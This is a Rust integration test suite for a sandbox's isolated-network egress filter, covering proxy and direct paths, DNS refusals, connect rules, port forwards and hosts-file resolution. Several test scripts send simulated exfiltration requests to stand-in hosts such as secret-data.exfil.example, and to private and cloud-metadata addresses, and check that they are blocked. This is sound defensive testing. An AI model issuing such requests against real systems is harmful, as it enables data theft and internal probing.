//! `OCSB_NETWORK=isolated`, as an ordinary user with no netlock group and no shim types it: the
//! sandbox has a network namespace of its own, and everything that leaves it goes through the
//! launcher — the proxy port, the forwarded ports, every other TCP connection (judged by the
//! same rules, logged with `file:line`), and DNS (a denied name is never asked for outside).
//!
//! The world: an origin namespace (192.0.2.1 and .2) with an HTTP server, a service that speaks
//! first (as sshd does), and a name server that logs every question; the launcher's resolver
//! is pointed at it through a private mount of `/etc/resolv.conf`.

use crate::support::sandbox::{ORIGIN_NS, World, has, scenario};

const DNS_PY: &str = include_str!("../support/dns.py");
const DNSQ_PY: &str = include_str!("../support/dnsq.py");

#[test]
fn an_isolated_sandbox_reaches_only_what_the_rules_and_the_forwards_allow() {
    let w = World::new();
    let dns = w.root.join("bin/dns.py");
    std::fs::write(&dns, DNS_PY).unwrap();
    std::fs::write(w.root.join("bin/dnsq.py"), DNSQ_PY).unwrap();
    let body = format!(
        r#"{ORIGIN_NS}export ON
        ip -n "$ON" addr add 192.0.2.2/24 dev ot$$
        SRV=$(mktemp -d); echo origin-ok > "$SRV/hello.txt"; chmod -R a+rX "$SRV"
        Q=$(mktemp); chmod 666 "$Q"
        O python3 {dns} 192.0.2.1 "$Q" & 
        O python3 -m http.server 80 --bind 0.0.0.0 --directory "$SRV" >/dev/null 2>&1 &
        O python3 -c 'import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("192.0.2.1", 2222)); s.listen(8)
while True:
    c, _ = s.accept(); c.sendall(b"SSH-2.0-world\r\n"); c.close()' &
        O python3 -c 'import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("192.0.2.1", 6443)); s.listen(8)
while True:
    c, _ = s.accept(); c.recv(4096); c.sendall(b"k8s-ok\n"); c.close()' &
        python3 -c 'import socket, sys, time
ls = []
for p in (7001, 7002):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1", p)); s.listen(8); ls.append(s)
import threading
def serve(s):
    while True:
        c, _ = s.accept(); c.sendall(b"host-%d\n" % s.getsockname()[1]); c.close()
for s in ls: threading.Thread(target=serve, args=(s,), daemon=True).start()
u = socket.socket(socket.AF_UNIX); u.bind("\0ocsb-isolated-abstract"); u.listen(8); ls.append(u)
time.sleep(60)' ocsb-isolated-marker &
        mkdir -p .opencode-sandbox/local
        printf 'OCSB_NETWORK=isolated\nOCSB_FORWARD_PORTS=(7002)\n' > .opencode-sandbox/local/sandbox.conf
        printf 'block .exfil.example\nblock 192.0.2.2\nconnect svc.example.test:2222 192.0.2.1:6443\n' > .opencode-sandbox/local/egress.conf
        chown -R 1990 .opencode-sandbox/local
        R=$(mktemp); echo 'nameserver 192.0.2.1' > "$R"; chmod 644 "$R"
        sleep 0.5
        timeout 60 unshare --mount --propagation private bash -c "mount --bind $R /etc/resolv.conf
          env -i PATH=/usr/local/bin:/usr/bin:/bin HOME=\"$HOME\" setpriv --reuid 1990 --regid 1990 --clear-groups -- \
            \"$OCSB\" exec -- sh -c '
            id -G
            echo proxied \$(curl -s --max-time 10 http://www.example.test/hello.txt)
            echo direct \$(curl -s --noproxy \"*\" --max-time 10 http://www.example.test/hello.txt)
            echo python \$(env -u http_proxy -u HTTP_PROXY python3 -c \"import urllib.request; print(urllib.request.urlopen(\\\"http://www.example.test/hello.txt\\\", timeout=10).read().decode().strip())\")
            echo node \$(node -e \"fetch(\\\"http://www.example.test/hello.txt\\\").then(r => r.text()).then(t => console.log(t.trim()), e => console.log(e.cause ? e.cause.code : e))\")
            echo ssh-like \$(python3 -c \"import socket; print(socket.create_connection((\\\"svc.example.test\\\", 2222), timeout=10).recv(64).decode().strip())\")
            echo k8s \$(curl --http0.9 -s --noproxy \"*\" --max-time 10 -H \"Host: kubernetes\" http://192.0.2.1:6443/)
            curl -s --noproxy \"*\" --max-time 10 http://secret-data.exfil.example/ >/dev/null; echo exfil-name \$?
            echo dns-tcp \$(python3 {dnsq} 192.0.2.1 www.example.test) \$(python3 {dnsq} 192.0.2.1 tcp.exfil.example)
            curl -s --noproxy \"*\" --max-time 10 http://192.0.2.2/hello.txt >/dev/null; echo blocked-ip \$?
            curl -s --noproxy \"*\" --max-time 10 http://10.0.0.1/ >/dev/null; echo private-ip \$?
            curl -s --noproxy \"*\" --max-time 10 http://192.0.2.1:8080/ >/dev/null; echo other-port \$?
            echo fwd \$(python3 -c \"import socket; print(socket.create_connection((\\\"127.0.0.1\\\", 7002), timeout=5).recv(64).decode().strip())\")
            python3 -c \"import socket, errno
try: socket.create_connection((\\\"127.0.0.1\\\", 7001), timeout=5); print(\\\"host-loopback open\\\")
except OSError as e: print(\\\"host-loopback\\\", errno.errorcode.get(e.errno, e))\"
            python3 -c \"import socket, errno
a = socket.socket(socket.AF_UNIX)
try: a.connect(\\\"\\\\0ocsb-isolated-abstract\\\"); print(\\\"abstract open\\\")
except OSError as e: print(\\\"abstract\\\", errno.errorcode.get(e.errno, e))\"
            python3 -c \"import socket, errno
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try: u.sendto(b\\\"x\\\", (\\\"192.0.2.1\\\", 9)); print(\\\"udp sent\\\")
except OSError as e: print(\\\"udp\\\", errno.errorcode.get(e.errno, e))\"
          ' </dev/null 2>&1"
        python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect("\0ocsb-isolated-abstract"); print("host reaches the abstract socket")'
        echo "queries: $(sort -u "$Q" | tr '\n' ' ')"
        echo "log:"; U "$OCSB" egress logs --no-follow 2>&1 | sed 's/^/  /'
        ip netns pids "$ON" | xargs -r kill; ip netns del "$ON"
        pkill -f ocsb-isolated-marker # last: this script's own command line names it too"#,
        dns = w.root.join("bin/dns.py").display(),
        dnsq = w.root.join("bin/dnsq.py").display(),
    );
    let (out, err) = scenario(&w, &body);
    // Not the netlock group: the user's own, and nothing else.
    has(&out, "1990", &err);
    has(&out, "proxied origin-ok", &err);
    has(&out, "direct origin-ok", &err);
    has(&out, "python origin-ok", &err);
    has(&out, "node origin-ok", &err); // Node's fetch never reads the proxy variables
    has(&out, "ssh-like SSH-2.0-world", &err);
    // The address dialled has a `connect` rule: it wins over the name the client sent.
    has(&out, "k8s k8s-ok", &err);
    has(&out, "exfil-name 6", &err); // could not resolve: the stub refused the name
    // DNS over TCP (what a client does with a truncated answer) reaches the same stub.
    has(&out, "dns-tcp www.example.test 192.0.2.1 tcp.exfil.example rcode 5", &err);
    for refused in ["blocked-ip", "private-ip", "other-port"] {
        let line = out.lines().find(|l| l.starts_with(refused)).unwrap_or_default();
        assert!(
            ["52", "56", "7"].iter().any(|c| line.ends_with(&format!(" {c}"))),
            "{refused}: {line}\n{out}\n{err}"
        );
    }
    has(&out, "fwd host-7002", &err);
    has(&out, "host-loopback ECONNREFUSED", &err);
    has(&out, "udp EPERM", &err);
    // Abstract UNIX sockets belong to a network namespace: the host's are out of reach (the
    // netlock mode needs landlock's ABI 6 scope for this), while the host itself reaches them.
    has(&out, "abstract ECONNREFUSED", &err);
    has(&out, "host reaches the abstract socket", &err);
    let queries = out.lines().find(|l| l.starts_with("queries:")).unwrap_or_default();
    assert!(queries.contains("www.example.test"), "{out}\n{err}");
    assert!(!queries.contains("exfil"), "a denied name left the machine: {queries}");
    assert!(out.lines().any(|l| l.ends_with("DENY  000 DNS tcp.exfil.example rule=block:local:1")), "{out}");
    // The host side: each refusal in the filter's log with its rule and `file:line`.
    for line in [
        "DENY  000 DNS secret-data.exfil.example rule=block:local:1",
        "DENY  403 CONNECT 192.0.2.2:80 rule=block:local:2",
        "DENY  403 CONNECT 10.0.0.1:80 rule=private",
        "allow 200 CONNECT svc.example.test:2222 rule=connect:local:3 → 192.0.2.1",
        "allow 200 CONNECT www.example.test:80 rule=default → 192.0.2.1",
    ] {
        assert!(out.lines().any(|l| l.ends_with(line)), "missing log line {line:?}\n{out}\n{err}");
    }
}

const VERDICTS_PY: &str = include_str!("../support/verdicts.py");

/// One case of the verdict table: the target, and what each path must give. `proxy` is the
/// filter's status through the inside proxy port; `direct` what a client that ignores the proxy
/// gets on the transparent path; `rule` the deciding rule in the filter's log (and, as a verdict,
/// in `ocsb egress explain`).
struct Case {
    label: &'static str,
    host: &'static str,
    port: u16,
    raw: bool,
    proxy: &'static str,
    direct: &'static str,
    rule: &'static str,
    /// What the world's name server answers for `host`, for `explain --resolve`.
    resolve: Option<&'static str>,
}

const fn case(label: &'static str, host: &'static str, port: u16, raw: bool) -> Case {
    Case { label, host, port, raw, proxy: "200", direct: "200", rule: "default", resolve: None }
}

/// The rules of the egress differential suite, with the world's origin at 192.0.2.1 and .10.
const RULES: &str = "allow jira.example.com internal.corp.test
allow-regex ^[a-z0-9-]+\\.staging\\.example\\.com$
block .example.com
block-regex ^prod-
connect git.example.com:2222 192.0.2.10:2222 192.0.2.10:8080
";

fn cases() -> Vec<Case> {
    let denied =
        |label, host, rule| Case { proxy: "403", direct: "dns", rule, ..case(label, host, 80, false) };
    // A name whose answer is private is refused by the stub as the proxy refuses the request.
    let private_name = |label, host, addr| Case {
        proxy: "403",
        direct: "dns",
        rule: "private",
        resolve: Some(addr),
        ..case(label, host, 80, false)
    };
    vec![
        case("pub", "pub.test.net", 80, false),
        case("literal", "192.0.2.1", 80, false),
        Case { rule: "allow:local:1", ..case("jira", "jira.example.com", 80, false) },
        Case { rule: "allow:local:2", ..case("staging", "api.staging.example.com", 80, false) },
        denied("blocked", "www.example.com", "block:local:3"),
        denied("regex", "prod-db.test.net", "block:local:4"),
        private_name("private-name", "private.test.net", "10.0.0.5"),
        private_name("metadata-name", "meta.test.net", "169.254.169.254"),
        Case {
            proxy: "403",
            direct: "reset",
            rule: "private",
            ..case("private-literal", "10.0.0.1", 80, false)
        },
        Case { proxy: "403", direct: "reset", rule: "port", ..case("port", "192.0.2.1", 8080, false) },
        Case { direct: "banner", rule: "connect:local:5", ..case("ssh", "git.example.com", 2222, true) },
        Case { direct: "banner", rule: "connect:local:5", ..case("connect-ip", "192.0.2.10", 2222, true) },
        // A `connect` rule allows any TCP connection to its address: a client that ignores
        // the proxy gets its plain HTTP through as a tunnel, while through the proxy the same
        // request is a GET, judged as a request to a port that is not 80 or 443.
        Case { proxy: "403", rule: "port", ..case("tunnel-port", "192.0.2.10", 8080, false) },
    ]
}

/// The verdict table through all three paths of an isolated sandbox: the proxy port, the
/// transparent path, and `ocsb egress explain`; they agree case by case, and each decision
/// is in the filter's log with its rule. Denied names never leave the machine.
#[test]
fn verdicts_agree_on_the_proxy_port_the_transparent_path_and_explain() {
    let w = World::new();
    let bin = w.root.join("bin");
    std::fs::write(bin.join("dns.py"), DNS_PY).unwrap();
    std::fs::write(bin.join("verdicts.py"), VERDICTS_PY).unwrap();
    let cases = cases();
    let args: Vec<String> = cases
        .iter()
        .map(|c| format!("{},{},{},{}", c.label, c.host, c.port, if c.raw { "raw" } else { "http" }))
        .collect();
    let explain: String = cases
        .iter()
        .map(|c| {
            let target = if c.raw {
                format!("--connect {}:{}", c.host, c.port)
            } else {
                format!("http://{}:{}/", c.host, c.port)
            };
            let resolve = c.resolve.map(|a| format!(" --resolve {a}")).unwrap_or_default();
            format!(
                "echo \"explain {} $(U \"$OCSB\" egress explain --json{resolve} {target} 2>&1)\"\n",
                c.label
            )
        })
        .collect();
    let body = format!(
        r#"{ORIGIN_NS}export ON
        ip -n "$ON" addr add 192.0.2.10/24 dev ot$$
        SRV=$(mktemp -d); echo origin-ok > "$SRV/index.html"; chmod -R a+rX "$SRV"
        Q=$(mktemp); chmod 666 "$Q"
        O python3 {bin}/dns.py 192.0.2.1 "$Q" private.test.net=10.0.0.5 meta.test.net=169.254.169.254 &
        O python3 -m http.server 80 --bind 0.0.0.0 --directory "$SRV" >/dev/null 2>&1 &
        O python3 -m http.server 8080 --bind 0.0.0.0 --directory "$SRV" >/dev/null 2>&1 &
        O python3 -c 'import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("0.0.0.0", 2222)); s.listen(8)
while True:
    c, _ = s.accept(); c.sendall(b"SSH-2.0-world\r\n"); c.close()' &
        mkdir -p .opencode-sandbox/local
        printf 'OCSB_NETWORK=isolated\n' > .opencode-sandbox/local/sandbox.conf
        printf '%s' {rules} > .opencode-sandbox/local/egress.conf
        chown -R 1990 .opencode-sandbox/local
        R=$(mktemp); echo 'nameserver 192.0.2.1' > "$R"; chmod 644 "$R"
        sleep 0.5
        timeout 90 unshare --mount --propagation private bash -c "mount --bind $R /etc/resolv.conf
          env -i PATH=/usr/local/bin:/usr/bin:/bin HOME=\"$HOME\" setpriv --reuid 1990 --regid 1990 --clear-groups -- \
            \"$OCSB\" exec -- python3 {bin}/verdicts.py {args} </dev/null 2>&1"
        {explain}
        echo "queries: $(sort -u "$Q" | tr '\n' ' ')"
        echo "log:"; U "$OCSB" egress logs --no-follow 2>&1 | sed 's/^/  /'
        ip netns pids "$ON" | xargs -r kill; ip netns del "$ON""#,
        bin = bin.display(),
        rules = crate::support::sandbox::shell_quote(RULES),
        args = args.join(" "),
    );
    let (out, err) = scenario(&w, &body);
    let log: Vec<&str> = out.lines().skip_while(|l| *l != "log:").collect();
    let queries = out.lines().find(|l| l.starts_with("queries:")).unwrap_or_default();
    for c in &cases {
        has(&out, &format!("{} proxy={} direct={}", c.label, c.proxy, c.direct), &err);
        let explained =
            out.lines().find(|l| l.starts_with(&format!("explain {} ", c.label))).unwrap_or_default();
        let verdict = if c.proxy == "200" { "\"verdict\":\"allow\"" } else { "\"verdict\":\"deny\"" };
        assert!(explained.contains(verdict), "{}: explain disagrees: {explained}\n{out}", c.label);
        let tag = format!("rule={}", c.rule);
        let logged = log.iter().filter(|l| l.contains(c.host) && l.contains(&tag)).count();
        // Once through the proxy port, once more on the transparent path (which the filter
        // judges, or the DNS stub refuses) unless the client never left the namespace.
        assert!(logged >= 1, "{}: no log line with {tag}\n{out}\n{err}", c.label);
        if c.direct == "dns" {
            let refused = format!("DNS {} {tag}", c.host);
            assert!(
                log.iter().any(|l| l.ends_with(&refused)),
                "{}: the stub did not log {refused}\n{out}",
                c.label
            );
            // A name the rules deny is never asked for; one whose answer is private had to be.
            let asked = queries.contains(c.host);
            assert_eq!(asked, c.resolve.is_some(), "{}: queries {queries}", c.label);
        }
    }
    let tunnel = "allow 200 CONNECT 192.0.2.10:8080 rule=connect:local:5 → 192.0.2.10";
    assert!(log.iter().any(|l| l.ends_with(tunnel)), "the transparent tunnel: {out}");
}

/// For the lending tests, inside `python3 -c '…'`: `tunnel(n)` opens a CONNECT tunnel through
/// the proxy port to the holding origin, prints `tunnel-N ok` once it greets, and leaves a mark
/// file `.tN` for the shell to wait on.
const TUNNEL_PY: &str = r#"import os, socket, time
def tunnel(n):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(b"CONNECT 192.0.2.1:9000 HTTP/1.1\r\nHost: 192.0.2.1:9000\r\n\r\n")
    data = b""
    while b"hold-ok" not in data:
        chunk = s.recv(256)
        if not chunk: break
        data += chunk
    print("tunnel-%d" % n, "ok" if b"hold-ok" in data else data, flush=True)
    open(".t%d" % n, "w").close()
    return s
"#;

/// For the lending tests: an origin at 192.0.2.1:9000 that greets and then holds every
/// connection open, an isolated project whose one rule is `connect 192.0.2.1:9000`, and `I` to
/// run `ocsb` as the user with the user's own gid (the filter it starts reaches the origin).
const HOLD: &str = r#"
        O python3 -c 'import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("192.0.2.1", 9000)); s.listen(8)
held = []
while True:
    c, _ = s.accept(); c.sendall(b"hold-ok\n"); held.append(c)' &
        mkdir -p .opencode-sandbox/local
        printf 'OCSB_NETWORK=isolated\n' > .opencode-sandbox/local/sandbox.conf
        printf 'connect 192.0.2.1:9000\n' > .opencode-sandbox/local/egress.conf
        chown -R 1990 .opencode-sandbox/local
        I() { env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$HOME" setpriv --reuid 1990 --regid 1990 --clear-groups -- "$OCSB" "$@" </dev/null; }
        I egress up >/dev/null 2>&1
        sleep 0.3
"#;

/// The builtin filter serves the proxy port inside the namespace itself (the launcher lends it
/// the listener, so a tunnel takes no extra hop): while a tunnel from inside is open, the
/// host's loopback holds no connection to the filter's port. When the filter is restarted, the
/// lent listener comes back to the launcher, which relays it to the new filter.
#[test]
fn the_proxy_port_is_lent_to_the_filter_and_relayed_after_a_restart() {
    let w = World::new();
    let body = format!(
        r#"{ORIGIN_NS}
{HOLD}        I exec -- python3 -c '{TUNNEL_PY}
def wait_for(name):
    for _ in range(200):
        if os.path.exists(name): return
        time.sleep(0.1)
t1 = tunnel(1); wait_for(".restarted")
t2 = tunnel(2); wait_for(".done")' > out.txt 2>&1 &
        E=$!
        for i in $(seq 100); do [ -e .t1 ] && break; sleep 0.1; done
        echo "first: to-filter $(ss -Htn state established '( dport = :3128 )' | wc -l) to-origin $(ss -Htn state established '( dport = :9000 )' | wc -l)"
        I egress down >/dev/null 2>&1; I egress up >/dev/null 2>&1; touch .restarted
        for i in $(seq 100); do [ -e .t2 ] && break; sleep 0.1; done
        echo "after restart: to-filter $(ss -Htn state established '( dport = :3128 )' | wc -l)"
        touch .done; wait $E; cat out.txt
        ip netns pids "$ON" | xargs -r kill; ip netns del "$ON""#,
    );
    let (out, err) = scenario(&w, &body);
    has(&out, "tunnel-1 ok", &err);
    // The tunnel is up (the filter holds its connection to the origin), and nothing on the
    // host's loopback carries it to the filter: the filter accepted it inside the namespace.
    has(&out, "first: to-filter 0 to-origin 1", &err);
    has(&out, "tunnel-2 ok", &err);
    // After the restart the launcher relays the port: one connection from it to the filter.
    has(&out, "after restart: to-filter 1", &err);
}

/// When the sandbox ends, the filter ends the connections it accepted on the lent listener,
/// even where the origin never closes: each would otherwise keep the sandbox's network
/// namespace alive.
#[test]
fn the_filter_lets_go_of_a_finished_sandbox() {
    let w = World::new();
    let body = format!(
        r#"{ORIGIN_NS}
{HOLD}        F=$(cat "$HOME/.local/share/opencode-sandbox/proj/egress/serve.pid")
        socks() {{ ls -l /proc/$F/fd | grep -c socket; }}
        BEFORE=$(socks); echo "filter $F holds $BEFORE sockets"
        I exec -- python3 -c '{TUNNEL_PY}
tunnel(1)' 2>&1 | grep tunnel
        for i in $(seq 30); do [ "$(socks)" = "$BEFORE" ] && break; sleep 0.1; done
        echo "after the sandbox: the filter holds $(( $(socks) - BEFORE )) more sockets"
        ip netns pids "$ON" | xargs -r kill; ip netns del "$ON""#,
    );
    let (out, err) = scenario(&w, &body);
    has(&out, "tunnel-1 ok", &err);
    let before = out.lines().find_map(|l| l.strip_prefix("filter ")).unwrap_or_default();
    let n: usize = before.split_whitespace().nth(2).and_then(|n| n.parse().ok()).unwrap_or(0);
    assert!(n > 0, "the filter's descriptors were not found: {out}\n{err}");
    // Neither the accepted connection (in the sandbox's namespace) nor its tunnel to the origin.
    has(&out, "after the sandbox: the filter holds 0 more sockets", &err);
}

/// An isolated sandbox started in the netlock's group is stopped when the host's lock goes
/// while it runs, as one on the host's network is: stage 2 keeps probing the host's lock from
/// a socket made on the host's network (one made inside would be rejected by the sandbox's own
/// table whatever the host's lock does). The same sandbox runs to its end with the lock kept.
#[test]
fn an_isolated_sandbox_in_the_netlock_group_is_stopped_when_the_hosts_lock_goes() {
    let w = World::new();
    let body = r#"mkdir -p .opencode-sandbox/local
        echo OCSB_NETWORK=isolated > .opencode-sandbox/local/sandbox.conf
        chown -R 1990 .opencode-sandbox/local
        X 'id -G; sleep 6'; echo "kept rc=$?"
        ( sleep 2; nft delete table inet ocsb_netlock ) &
        T0=$(date +%s%N); X 'sleep 20'; RC=$?
        echo "removed rc=$RC after $(( ($(date +%s%N) - T0) / 1000000 )) ms""#;
    let (out, err) = scenario(&w, body);
    has(&out, "kept rc=0", &err);
    let line = out.lines().find(|l| l.starts_with("removed rc=")).unwrap_or_default();
    assert!(line.starts_with("removed rc=125 "), "the sandbox outlived the lock: {line}\n{out}\n{err}");
    let ms: u64 = line.split_whitespace().nth(3).and_then(|n| n.parse().ok()).unwrap_or(u64::MAX);
    // The lock goes at 2 s and is probed every 5 s.
    assert!(ms < 9000, "stopped {ms} ms after the start\n{err}");
    assert!(err.contains("NOT working") && err.contains("the sandbox was stopped"), "{err}");
}

/// Asks the stub (port 53 of any address, inside an isolated sandbox) one question per
/// `NAME/TYPE` argument over UDP and prints `dns NAME TYPE rcode=N ADDRESSES|- fast|slow`, or
/// `dns NAME TYPE no-answer`.
const DNS_ASK_PY: &str = r#"import socket, struct, sys, time
for arg in sys.argv[1:]:
    name, kind = arg.split("/")
    qtype = {"A": 1, "AAAA": 28}[kind]
    q = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!HH", qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(8)
    t = time.monotonic()
    s.sendto(q, ("192.0.2.1", 53))
    try:
        r = s.recv(4096)
    except OSError:
        print("dns", name, kind, "no-answer", flush=True)
        continue
    took = time.monotonic() - t
    rcode, count = r[3] & 15, struct.unpack("!H", r[6:8])[0]
    i = 12
    while r[i]:
        i += 1 + r[i]
    i += 5
    addrs = []
    for _ in range(count):
        if r[i] & 0xC0 == 0xC0:
            i += 2
        else:
            while r[i]:
                i += 1 + r[i]
            i += 1
        rtype, _, _, length = struct.unpack("!HHIH", r[i : i + 10])
        i += 10
        family = socket.AF_INET if rtype == 1 else socket.AF_INET6
        addrs.append(socket.inet_ntop(family, r[i : i + length]))
        i += length
    print("dns", name, kind, "rcode=%d" % rcode, ",".join(addrs) or "-", "fast" if took < 1 else "slow", flush=True)
"#;

/// A name only the host's `/etc/hosts` lists (a VPN's, an internal host's), with a name server
/// that drops every packet: inside the isolated sandbox the DNS stub answers it at once from the
/// hosts file (the family the file lacks: an empty answer), requests to it reach the hosts
/// file's address through the proxy port and the transparent path, and the name server is never
/// asked for it.
#[test]
fn an_isolated_sandbox_resolves_hosts_file_names_without_the_name_server() {
    let w = World::new();
    let ask = w.root.join("bin/dns_ask.py");
    std::fs::write(&ask, DNS_ASK_PY).unwrap();
    let body = format!(
        r#"{ORIGIN_NS}export ON
        ip -n "$ON" addr add 192.0.2.2/24 dev ot$$
        SRV=$(mktemp -d); echo hosts-ok > "$SRV/hello.txt"; chmod -R a+rX "$SRV"
        Q=$(mktemp); chmod 666 "$Q"
        O python3 -c 'import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("192.0.2.1", 53))
while True:
    q, _ = s.recvfrom(4096); i, labels = 12, []
    while i < len(q) and q[i]:
        labels.append(q[i + 1 : i + 1 + q[i]].decode(errors="replace")); i += 1 + q[i]
    with open(sys.argv[1], "a") as f: f.write(".".join(labels) + "\n")' "$Q" &
        O python3 -m http.server 80 --bind 192.0.2.2 --directory "$SRV" >/dev/null 2>&1 &
        mkdir -p .opencode-sandbox/local
        printf 'OCSB_NETWORK=isolated\n' > .opencode-sandbox/local/sandbox.conf
        chown -R 1990 .opencode-sandbox/local
        R=$(mktemp); echo 'nameserver 192.0.2.1' > "$R"; chmod 644 "$R"
        H=$(mktemp); printf '127.0.0.1 localhost\n192.0.2.2 intranet.vpn.test intranet\n2001:db8::7 six.vpn.test\n' > "$H"; chmod 644 "$H"
        sleep 0.5
        timeout 60 unshare --mount --propagation private bash -c "mount --bind $R /etc/resolv.conf; mount --bind $H /etc/hosts
          env -i PATH=/usr/local/bin:/usr/bin:/bin HOME=\"$HOME\" setpriv --reuid 1990 --regid 1990 --clear-groups -- \
            \"$OCSB\" exec -- sh -c '
            python3 {ask} intranet.vpn.test/A intranet.vpn.test/AAAA six.vpn.test/A six.vpn.test/AAAA
            echo proxied \$(curl -s --max-time 10 -w \" %{{time_total}}\" http://intranet.vpn.test/hello.txt)
            echo direct \$(curl -s --noproxy \"*\" --max-time 10 -w \" %{{time_total}}\" http://intranet.vpn.test/hello.txt)
            python3 {ask} pub.test.net/A
          ' </dev/null 2>&1"
        echo "queries: $(sort -u "$Q" | tr '\n' ' ')"
        echo "log:"; U "$OCSB" egress logs --no-follow 2>&1 | sed 's/^/  /'
        ip netns pids "$ON" | xargs -r kill; ip netns del "$ON"
        rm -rf "$SRV" "$Q" "$R" "$H""#,
        ask = ask.display(),
    );
    let (out, err) = scenario(&w, &body);
    has(&out, "dns intranet.vpn.test A rcode=0 192.0.2.2 fast", &err);
    has(&out, "dns intranet.vpn.test AAAA rcode=0 - fast", &err);
    has(&out, "dns six.vpn.test A rcode=0 - fast", &err);
    has(&out, "dns six.vpn.test AAAA rcode=0 2001:db8::7 fast", &err);
    for path in ["proxied", "direct"] {
        let line = out.lines().find(|l| l.starts_with(&format!("{path} "))).unwrap_or_default();
        let took: f64 =
            line.strip_prefix(&format!("{path} hosts-ok ")).and_then(|t| t.parse().ok()).unwrap_or(f64::MAX);
        assert!(took < 1.0, "{path}: {line:?}\n{out}\n{err}");
    }
    let queries = out.lines().find(|l| l.starts_with("queries:")).unwrap_or_default();
    assert!(!queries.contains("vpn.test"), "the name server was asked for a hosts-file name: {queries}");
    // The name server is there to ask, and logs what it is asked: a name the hosts file does
    // not list goes to it (and, dropped, gets no address).
    assert!(queries.contains("pub.test.net"), "{out}\n{err}");
    assert!(
        out.lines().any(|l| l.contains("intranet.vpn.test") && l.ends_with("→ 192.0.2.2")),
        "no log line for the hosts-file name's address\n{out}"
    );
}
